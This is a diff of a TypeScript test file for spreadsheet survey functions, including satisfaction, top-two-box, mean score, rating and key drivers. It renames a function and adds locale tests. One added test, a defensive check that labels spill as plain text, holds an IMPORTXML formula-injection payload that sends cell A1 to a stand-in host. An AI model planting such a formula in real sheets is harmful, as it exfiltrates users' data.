@@ -29,7 +29,7 @@ function wilson(p: number, n: number): [number, number] {
   return [(centre - spread) / scale, (centre + spread) / scale]
 }
 
-describe('SATISFACTION, TOP2BOX, MEAN_SCORE, SCORE10, BASE', () => {
+describe('SATISFACTION, TOP2BOX, MEAN_SCORE, SCORE10, RESPONDENTS', () => {
   const scores = column(5, 4, 5, 3, '', 'Жауап беруге қиналамын', 2)
 
   it('count a 1-D column, skipping blanks and «hard to say»', () => {
@@ -39,7 +39,7 @@ describe('SATISFACTION, TOP2BOX, MEAN_SCORE, SCORE10, BASE', () => {
     expect(call('TOP2BOX', scores)).toBeCloseTo(3 / 5, 15)
     expect(call('MEAN_SCORE', scores)).toBeCloseTo(19 / 5, 15)
     expect(call('SCORE10', scores)).toBeCloseTo(38 / 5, 15)
-    expect(call('BASE', scores)).toBe(5)
+    expect(call('RESPONDENTS', scores)).toBe(5)
   })
 
   it('read a 2-D range row by row, and the scale’s words and «5 балл»', () => {
@@ -50,14 +50,14 @@ describe('SATISFACTION, TOP2BOX, MEAN_SCORE, SCORE10, BASE', () => {
       [1, 'Отлично'],
     ]
     // Valid: 5, 5, 4, 1, 5.
-    expect(call('BASE', grid)).toBe(5)
+    expect(call('RESPONDENTS', grid)).toBe(5)
     expect(call('SATISFACTION', grid)).toBeCloseTo(3 / 5, 15)
     expect(call('MEAN_SCORE', grid)).toBeCloseTo(20 / 5, 15)
   })
 
   it('take a single cell as a range of one', () => {
     expect(call('SATISFACTION', 5)).toBe(1)
-    expect(call('BASE', '')).toBe(0)
+    expect(call('RESPONDENTS', '')).toBe(0)
   })
 
   it('name a bad cell’s value and position', () => {
@@ -73,7 +73,7 @@ describe('SATISFACTION, TOP2BOX, MEAN_SCORE, SCORE10, BASE', () => {
     expect(() => call('TOP2BOX', column(4.5))).toThrow(
       '"4.5" at row 1, column 1 of the range: not a whole score 1..5',
     )
-    expect(() => call('BASE', column(true))).toThrow(
+    expect(() => call('RESPONDENTS', column(true))).toThrow(
       '"true" at row 1, column 1 of the range: TRUE/FALSE, not a score 1..5',
     )
   })
@@ -89,18 +89,18 @@ describe('SATISFACTION, TOP2BOX, MEAN_SCORE, SCORE10, BASE', () => {
     const scores3 = column(5, 4, 5, 2)
     const weights = column(2, 1, 1, '')
     // Counted: 5×2, 4×1, 5×1 → Σw = 4.
-    expect(call('BASE', scores3, weights)).toBe(4)
+    expect(call('RESPONDENTS', scores3, weights)).toBe(4)
     expect(call('SATISFACTION', scores3, 'top', weights)).toBeCloseTo(3 / 4, 15)
     expect(call('MEAN_SCORE', scores3, weights)).toBeCloseTo(19 / 4, 15)
     expect(call('SCORE10', scores3, weights)).toBeCloseTo(38 / 4, 15)
     expect(call('TOP2BOX', scores3, weights)).toBe(1)
-    expect(() => call('BASE', scores3, column(1, 'abc', 1, 1))).toThrow(
+    expect(() => call('RESPONDENTS', scores3, column(1, 'abc', 1, 1))).toThrow(
       '"abc" at row 2, column 1 of weights: weight is not a number',
     )
-    expect(() => call('BASE', scores3, column(1, 1, -2, 1))).toThrow(
+    expect(() => call('RESPONDENTS', scores3, column(1, 1, -2, 1))).toThrow(
       '"-2" at row 3, column 1 of weights: weight must be positive',
     )
-    expect(() => call('BASE', scores3, column(1, 1))).toThrow(
+    expect(() => call('RESPONDENTS', scores3, column(1, 1))).toThrow(
       'weights must be the same size as the range (4×1), not 2×1',
     )
   })
@@ -256,5 +256,36 @@ describe('RATING', () => {
     } finally {
       addon.properties.document.values.clear()
     }
+  })
+
+  it('takes the locale as its last argument, so the header follows a change of language', () => {
+    expect(call('RATING', services, scores, 2, 'ru')[0].slice(0, 2)).toEqual(['Место', 'Услуга'])
+    expect(call('RATING', services, scores, 2, 'EN')[0].slice(0, 2)).toEqual(['Rank', 'Service'])
+    expect(call('RATING', services, scores, '', 'kk')[0][0]).toBe('Орны')
+    expect(() => call('RATING', services, scores, 2, 'de')).toThrow(
+      'locale must be "kk", "ru" or "en", not "de"',
+    )
+  })
+
+  it('spills a label that starts like a formula as that text: spilled values are values', () => {
+    const evil = '=IMPORTXML("https://x.example/?"&A1, "//a")'
+    const table = call('RATING', column(evil, evil, '+7 701', '@x'), column(5, 4, 5, 3), 1)
+    expect(
+      table
+        .slice(1)
+        .map((row: unknown[]) => row[1])
+        .sort(),
+    ).toEqual(['+7 701', '@x', evil].sort())
+  })
+})
+
+describe('KEY_DRIVERS locale', () => {
+  it('takes the locale as its last argument', () => {
+    const aspects = [['Сроки'], [1], [2], [3]]
+    expect(call('KEY_DRIVERS', aspects, column(1, 2, 3), 'en')[0]).toEqual([
+      'Aspect',
+      'Correlation (r)',
+      'Respondents',
+    ])
   })
 })
